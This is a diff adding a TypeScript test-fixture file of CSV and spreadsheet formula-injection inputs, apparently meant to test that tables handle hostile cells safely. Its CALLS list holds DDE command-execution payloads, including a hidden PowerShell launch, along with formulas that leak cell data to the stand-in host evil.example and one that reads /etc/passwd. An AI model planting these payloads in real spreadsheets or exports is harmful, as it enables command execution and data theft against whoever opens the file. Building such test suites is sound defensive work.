@@ -1,0 +1,87 @@
+import { family, type Pair } from "./pair.ts";
+
+const SIGNS = ["=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"];
+const BEFORE = [
+  "",
+  " ",
+  "\t",
+  "\n",
+  "\r\n",
+  "\r",
+  "\0",
+  "\u00a0",
+  "\ufeff",
+  "\u200b",
+  "\u2060",
+  " \t \u0001",
+];
+const FORMULAS = SIGNS.flatMap((sign) => BEFORE.map((before) => `${before}${sign}1+1`));
+const CALLS = [
+  "=cmd|' /C calc'!A0",
+  "=cmd|'/c powershell -w hidden'!A1",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+  '=WEBSERVICE("https://evil.example/"&A2)',
+  '=IMPORTXML(CONCAT("https://evil.example/?", A1), "//a")',
+  '=IMPORTDATA("https://evil.example/x.csv")',
+  '=IMAGE("https://evil.example/"&B2)',
+  '=DDE("cmd";"/C calc";"x")',
+  "='file:///etc/passwd'#$passwd.A1",
+  "=A1=A1",
+  "=-1",
+];
+const CELLS = [
+  '"',
+  '""',
+  '","',
+  '",=1+1,"',
+  '"\n=1+1,"',
+  "a,b,c",
+  "a;b;c",
+  "a\tb\tc",
+  "a|b|c",
+  "\n",
+  "\r",
+  "\r\n",
+  "a\nb",
+  "a\r\nb",
+  'a"\n"b',
+  "'=1+1",
+  "''",
+  "\\",
+  '\\"',
+  "\\n",
+  "sep=;",
+  "\ufeff",
+  "\u2028",
+  "\u2029",
+  "\u0085",
+  ",",
+  ",,,,",
+  '"a","b"',
+  "\u001a",
+  "\u001b[2J",
+  "a\0b",
+  "\0",
+  "\ud83d",
+  "a\udc00b",
+];
+const HUGE = [
+  "a".repeat(40_000),
+  '"'.repeat(40_000),
+  ",".repeat(40_000),
+  "\n".repeat(40_000),
+  `=${"1+".repeat(20_000)}1`,
+  `${" ".repeat(40_000)}=1+1`,
+  "\u200b".repeat(40_000),
+];
+
+/** What breaks tables, or makes a spreadsheet work out what somebody else wrote. */
+export const TABLES: readonly Pair[] = [
+  ...family("a formula", "1 + 1 = 2", FORMULAS),
+  ...family("a formula that calls", "cost = price - discount (see sum@example.com)", CALLS),
+  ...family("a cell that ends its cell", 'She said "yes", and\nleft; see a|b', CELLS),
+  ...family("a huge cell", "a rather long answer, ".repeat(180), HUGE),
+];
